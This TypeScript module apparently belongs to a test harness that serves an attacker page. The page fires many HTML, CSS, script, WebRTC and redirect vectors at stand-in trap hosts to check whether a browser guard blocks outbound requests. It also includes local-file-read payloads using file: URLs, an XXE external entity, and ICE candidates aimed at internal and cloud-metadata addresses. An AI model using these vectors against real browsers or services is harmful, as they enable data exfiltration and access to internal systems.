import type { Page } from './attack-site.ts';

/** Ways in which a page can make a browser send a request: a name, and HTML that makes it for an address. */
type Vector = (target: string) => string;

const script = (code: string) => `<script>try { ${code} } catch {}</script>`;
const style = (rule: string) => `<style>${rule}</style>`;

/** In pages that come over plain http. */
const plainVectors: Record<string, Vector> = {
  img: (to) => `<img src="${to}/">`,
  srcset: (to) => `<img srcset="${to}/ 1x">`,
  picture: (to) => `<picture><source srcset="${to}/"><img alt="x"></picture>`,
  'lazy-img': (to) => `<img loading="lazy" src="${to}/">`,
  'data-src': (to) => `<img data-src="${to}/" class="lazyload">`,
  'input-image': (to) => `<input type="image" src="${to}/">`,
  background: (to) => `<table background="${to}/"><tr><td>x</table>`,
  'link-css': (to) => `<link rel="stylesheet" href="${to}/">`,
  'css-import': (to) => style(`@import "${to}/";`),
  'css-url': (to) => `<div style="background-image: url(${to}/)">x</div>`,
  'css-image-set': (to) => `<div style="background-image: image-set(url('${to}/') 1x)">x</div>`,
  'css-content': (to) => `${style(`#cc::before { content: url(${to}/) }`)}<p id="cc">x`,
  'css-cursor': (to) => `<p style="cursor: url(${to}/), auto">x`,
  'css-mask': (to) => `<p style="mask-image: url(${to}/)">x`,
  'css-filter': (to) => `<p style="filter: url(${to}/f.svg#f)">x`,
  'css-shape': (to) => `<p style="float: left; shape-outside: url(${to}/)">x`,
  'css-list': (to) => `<ul style="list-style-image: url(${to}/)"><li>x</ul>`,
  'css-border': (to) => `<p style="border: 1px solid; border-image: url(${to}/) 1">x`,
  font: (to) => `${style(`@font-face { font-family: f; src: url(${to}/) } #ff { font-family: f }`)}<p id="ff">x`,
  'font-face-script': (to) => script(`new FontFace('g', 'url(${to}/)').load().catch(() => {})`),
  script: (to) => `<script src="${to}/"></script>`,
  module: (to) => `<script type="module" src="${to}/"></script>`,
  'dynamic-import': (to) => script(`import('${to}/').catch(() => {})`),
  'import-map': (to) =>
    `<script type="importmap">{"imports": {"mapped": "${to}/"}}</script><script type="module">import('mapped').catch(() => {})</script>`,
  iframe: (to) => `<iframe src="${to}/"></iframe>`,
  'iframe-srcdoc': (to) => `<iframe srcdoc="<img src='${to}/'>"></iframe>`,
  'iframe-data': (to) => `<iframe src="data:text/html,<img src='${to}/'>"></iframe>`,
  'iframe-blob': (to) =>
    script(
      `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="${to}/">'], { type: 'text/html' })); document.documentElement.append(f)`,
    ),
  object: (to) => `<object data="${to}/"></object>`,
  embed: (to) => `<embed src="${to}/">`,
  video: (to) => `<video src="${to}/" preload="auto"></video>`,
  poster: (to) => `<video poster="${to}/"></video>`,
  audio: (to) => `<audio src="${to}/" preload="auto"></audio>`,
  source: (to) => `<video preload="auto"><source src="${to}/"></video>`,
  track: (to) =>
    `<video id="tv"><track default kind="captions" src="${to}/"></video>${script("document.querySelector('#tv').textTracks[0].mode = 'showing'")}`,
  favicon: (to) => `<link rel="icon" href="${to}/">`,
  'touch-icon': (to) => `<link rel="apple-touch-icon" href="${to}/">`,
  manifest: (to) => `<link rel="manifest" href="${to}/">`,
  prefetch: (to) => `<link rel="prefetch" href="${to}/">`,
  preload: (to) => `<link rel="preload" as="image" href="${to}/">`,
  modulepreload: (to) => `<link rel="modulepreload" href="${to}/">`,
  prerender: (to) => `<link rel="prerender" href="${to}/">`,
  preconnect: (to) => `<link rel="preconnect" href="${to}/">`,
  'dns-prefetch': (to) => `<link rel="dns-prefetch" href="${to}/">`,
  'speculation-rules': (to) => `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${to}/"]}]}</script>`,
  'speculation-prerender': (to) => `<script type="speculationrules">{"prerender": [{"source": "list", "urls": ["${to}/"]}]}</script>`,
  fetch: (to) => script(`fetch('${to}/').then((r) => r.text()).then((t) => document.body.append(t)).catch(() => {})`),
  'fetch-no-cors': (to) => script(`fetch('${to}/', { mode: 'no-cors', method: 'POST', body: 'x' }).catch(() => {})`),
  'fetch-keepalive': (to) => script(`fetch('${to}/', { mode: 'no-cors', keepalive: true }).catch(() => {})`),
  xhr: (to) => script(`const x = new XMLHttpRequest(); x.open('GET', '${to}/'); x.send()`),
  'xhr-sync': (to) => script(`const x = new XMLHttpRequest(); x.open('GET', '${to}/', false); x.send()`),
  beacon: (to) => script(`navigator.sendBeacon('${to}/', 'x')`),
  websocket: (to) => script(`new WebSocket('${to.replace('http', 'ws')}/')`),
  eventsource: (to) => script(`new EventSource('${to}/')`),
  worker: (to) => script(`new Worker(URL.createObjectURL(new Blob(["fetch('${to}/', { mode: 'no-cors' }).catch(() => {})"])))`),
  'worker-import': (to) => script(`new Worker(URL.createObjectURL(new Blob(["importScripts('${to}/')"])))`),
  'shared-worker': (to) => script(`new SharedWorker(URL.createObjectURL(new Blob(["fetch('${to}/', { mode: 'no-cors' }).catch(() => {})"])))`),
  'form-get': (to) =>
    `<iframe name="fg"></iframe><form id="fg" target="fg" action="${to}/"></form>${script("document.querySelector('#fg').submit()")}`,
  'form-post': (to) =>
    `<iframe name="fp"></iframe><form id="fp" target="fp" method="post" action="${to}/"><input name="a" value="b"></form>${script("document.querySelector('#fp').submit()")}`,
  ping: (to) =>
    `<iframe name="pi"></iframe><a id="pi" target="pi" href="about:blank" ping="${to}/">x</a>${script("document.querySelector('#pi').click()")}`,
  'svg-image': (to) => `<svg width="9" height="9"><image href="${to}/" width="9" height="9"/></svg>`,
  'svg-use': (to) => `<svg><use href="${to}/u.svg#u"/></svg>`,
  'svg-feimage': (to) =>
    `<svg width="9" height="9"><filter id="fi"><feImage href="${to}/"/></filter><rect width="9" height="9" filter="url(#fi)"/></svg>`,
  'svg-pattern': (to) => `<svg width="9" height="9"><rect width="9" height="9" fill="url(${to}/p.svg#p)"/></svg>`,
  xslt: (to) => `<iframe src="/xslt?to=${encodeURIComponent(to)}"></iframe>`,
  'csp-report': (to) => `<iframe src="/csp?to=${encodeURIComponent(to)}"></iframe>`,
  'link-header': (to) => `<iframe src="/link-header?to=${encodeURIComponent(to)}"></iframe>`,
  'meta-refresh': (to) => `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${to}/'>"></iframe>`,
  'js-location': (to) => `<iframe srcdoc="<script>location = '${to}/'</script>"></iframe>`,
  sourcemap: (to) => script(`eval('1 //# sourceMappingURL=${to}/')`),
  stun: (to) =>
    script(
      `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(to).hostname}:3478' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`,
    ),
  'stun-address': () =>
    script(
      `for (const urls of ['stun:10.0.0.5:3478', 'stun:93.184.216.34:3478', 'stun:127.0.0.1:3478', 'stun:[fd00::5]:3478']) { const p = new RTCPeerConnection({ iceServers: [{ urls }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }`,
    ),
  turn: (to) =>
    script(
      `for (const transport of ['udp', 'tcp']) { const p = new RTCPeerConnection({ iceServers: [{ urls: 'turn:${new URL(to).hostname}:80?transport=' + transport, username: 'u', credential: 'c' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }`,
    ),
  'webrtc-candidate': () =>
    script(
      `const p = new RTCPeerConnection(); p.createDataChannel('x'); p.onicecandidate = (e) => e.candidate && document.body.append('CANDIDATE ' + e.candidate.candidate); p.createOffer().then((o) => p.setLocalDescription(o)).then(() => p.setRemoteDescription({ type: 'answer', sdp: p.localDescription.sdp.replace('a=setup:actpass', 'a=setup:active') })).then(() => ['10.0.0.5', '127.0.0.1', '169.254.169.254', '93.184.216.34'].forEach((a) => p.addIceCandidate({ sdpMLineIndex: 0, candidate: 'candidate:1 1 udp 2122260223 ' + a + ' 3478 typ host' }))).catch(() => {})`,
    ),
  ...Object.fromEntries(
    [301, 302, 303, 307, 308].map((status) => [
      `redirect-${status}`,
      (to: string) => `<iframe src="/redirect/${status}?to=${encodeURIComponent(`${to}/`)}"></iframe>`,
    ]),
  ),
  ...Object.fromEntries(
    [301, 302, 303, 307, 308].map((status) => [
      `img-redirect-${status}`,
      (to: string) => `<img src="/redirect/${status}?to=${encodeURIComponent(`${to}/`)}">`,
    ]),
  ),
};

/** In a page of their own, since a browser is busy with the windows that they open. */
const windowVectors: Record<string, Vector> = {
  'window-open': (to) => script(`window.open('${to}/')`),
  'link-click': (to) => `<a id="lc" target="_blank" href="${to}/">x</a>${script("document.querySelector('#lc').click()")}`,
  download: (to) => `<a id="dl" target="_blank" download href="${to}/">x</a>${script("document.querySelector('#dl').click()")}`,
};

/** In pages that come over https, where service workers and reports live. */
const secureVectors: Record<string, Vector> = {
  'secure-img': (to) => `<img src="${to}/">`,
  'secure-fetch': (to) => script(`fetch('${to}/', { mode: 'no-cors' }).catch(() => {})`),
  'secure-websocket': (to) => script(`new WebSocket('${to.replace('https', 'wss')}/')`),
  'service-worker': (to) => script(`navigator.serviceWorker.register('/service-worker.js?to=${encodeURIComponent(to)}').catch(() => {})`),
  webtransport: (to) => script(`new WebTransport('${to}:443/').ready.catch(() => {})`),
  'paint-worklet': (to) => script(`CSS.paintWorklet.addModule('${to}/').catch(() => {})`),
  'audio-worklet': (to) => script(`new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('${to}/').catch(() => {})`),
  'secure-redirect': (to) => `<iframe src="/redirect/302?to=${encodeURIComponent(`${to}/`)}"></iframe>`,
  report: () => '<img src="https://missing.site.example/404">',
};

const body = (title: string, content: string) =>
  `<!doctype html><title>${title}</title><h1>${title}</h1><p>This page says enough to count as a page with text of its own.</p>${content}`;

/** The host that a vector asks for: its own, so that who asked can be told from the name. */
export const trapOf = (vector: string) => `${vector}.trap.example`;
export const vectorNames = Object.keys({ ...plainVectors, ...windowVectors, ...secureVectors });

/**
 * Vectors that never get to the guard: Chromium's own settings close them (the mDNS of WebRTC is among what they would send), windows are kept from being
 * opened, or nobody asks for them, as for a manifest, which no format keeps.
 */
export const closedVectors: readonly string[] = [
  'prerender',
  'preconnect',
  'dns-prefetch',
  'speculation-rules',
  'speculation-prerender',
  'ping',
  'xslt',
  'sourcemap',
  'stun',
  'stun-address',
  'webrtc-candidate',
  'webtransport',
  'report',
  'manifest',
  'window-open',
  'link-click',
  'download',
];

/** What `file:` addresses a page can name, and how. */
function filePage(path: string): string {
  const url = `file://${path}`;
  return [
    `<img src="${url}">`,
    `<iframe src="${url}"></iframe>`,
    `<object data="${url}"></object>`,
    `<embed src="${url}">`,
    `<link rel="stylesheet" href="${url}">`,
    `<link rel="icon" href="${url}">`,
    `<script src="${url}"></script>`,
    `<style>@import "${url}"; @font-face { font-family: h; src: url(${url}) } body { background: url("${url}"); font-family: h, serif }</style>`,
    `<video src="${url}" poster="${url}"></video><audio src="${url}"></audio>`,
    `<svg><image href="${url}"/><use href="${url}#a"/></svg>`,
    `<input type="image" src="${url}"><picture><source srcset="${url}"><img alt="x"></picture>`,
    `<img src="FILE:${path}"><img src="file:${path}"><img src="file://localhost${path}"><img src="file:////${path}"><img src="file:%2f%2f${path}">`,
    `<img src="view-source:${url}"><iframe src="filesystem:${url}"></iframe><img src="jar:${url}!/"><iframe src="chrome://version"></iframe>`,
    `<img src="/redirect/302?to=${encodeURIComponent(url)}"><iframe src="/redirect/302?to=${encodeURIComponent(url)}"></iframe>`,
    script(`fetch('${url}').then((r) => r.text()).then((t) => document.body.append(t)).catch(() => {})`),
    script(`const x = new XMLHttpRequest(); x.open('GET', '${url}'); x.onload = () => document.body.append(x.responseText); x.send()`),
    script(`window.open('${url}')`),
    `<base href="file:///"><img src="${path}"><iframe src="${path}"></iframe><link rel="stylesheet" href="${path}">`,
  ].join('\n');
}

/** The attacker's page at a path. */
export function findPage(path: string): Page | undefined {
  const url = new URL(path, 'http://site.example');
  const to = url.searchParams.get('to') ?? '';
  const redirect = /^\/redirect\/(\d{3})$/.exec(url.pathname);
  if (redirect) {
    return { status: Number(redirect[1]), headers: { location: to }, body: '' };
  }
  switch (url.pathname) {
    case '/plain':
      return { body: body('Plain', '<p>Nothing is asked for here.</p>') };
    case '/vectors':
      return {
        body: body(
          'Vectors',
          Object.entries(plainVectors)
            .map(([name, make]) => make(`http://${trapOf(name)}`))
            .join('\n'),
        ),
      };
    case '/windows':
      return {
        body: body(
          'Windows',
          Object.entries(windowVectors)
            .map(([name, make]) => make(`http://${trapOf(name)}`))
            .join('\n'),
        ),
      };
    case '/addresses':
      return {
        body: body(
          'Addresses',
          url.searchParams
            .getAll('host')
            .map((host) => ['img', 'iframe', 'fetch', 'websocket', 'css-url'].map((name) => plainVectors[name]?.(`http://${host}`)).join('\n'))
            .join('\n'),
        ),
      };
    case '/secure-vectors':
      return {
        body: body(
          'Secure vectors',
          Object.entries(secureVectors)
            .map(([name, make]) => make(`https://${trapOf(name)}`))
            .join('\n'),
        ),
        headers: {
          'reporting-endpoints': `default="https://${trapOf('reporting-endpoints')}/"`,
          'report-to': JSON.stringify({ group: 'default', max_age: 1, endpoints: [{ url: `https://${trapOf('report-to')}/` }] }),
          nel: JSON.stringify({ report_to: 'default', max_age: 1, success_fraction: 1, failure_fraction: 1 }),
          'content-security-policy-report-only': `font-src 'none'; img-src 'none'; report-uri https://${trapOf('secure-csp')}/; report-to default`,
        },
      };
    case '/document.pdf':
      return { type: 'application/pdf', body: '%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n' };
    case '/again':
      // what is fetched later, and by whoever fetches it once more
      return {
        body: body(
          'Again',
          Array.from({ length: 5 }, (_, index) => `<img src="//n${index}.flip.example/img"><script>fetch('/later?${index}')</script>`).join('\n'),
        ),
      };
    case '/service-worker.js':
      return { type: 'text/javascript', body: `fetch('${to}/', { mode: 'no-cors' }).catch(() => {}); self.addEventListener('fetch', () => {})` };
    case '/files':
      return { body: body('Files', filePage(to)) };
    case '/xslt':
      return {
        type: 'application/xml',
        body: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${to}/"?><!DOCTYPE x [<!ENTITY e SYSTEM "${to}/">]><x>&e;</x>`,
      };
    case '/csp':
      return { body: '<img src="data:image/png;base64,AAAA">', headers: { 'content-security-policy': `img-src 'none'; report-uri ${to}/` } };
    case '/link-header':
      return { body: 'x', headers: { link: `<${to}/>; rel=preload; as=image` } };
    case '/refresh-header':
      return { body: body('Refresh', ''), headers: { refresh: `0; url=${to}` } };
    case '/meta-refresh':
      return { body: body('Refresh', `<meta http-equiv="refresh" content="0; url=${to}">`) };
    case '/js-location':
      return { body: body('Script', script(`location.href = ${JSON.stringify(to)}`)) };
    default:
      return undefined;
  }
}
